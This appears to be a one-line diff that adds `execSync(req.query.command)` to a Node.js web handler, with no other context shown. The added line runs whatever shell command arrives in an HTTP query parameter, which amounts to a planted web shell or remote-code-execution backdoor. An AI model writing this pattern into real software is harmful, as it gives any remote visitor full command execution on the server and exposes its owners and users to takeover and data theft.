@@ -1,0 +1,1 @@
+execSync(req.query.command)
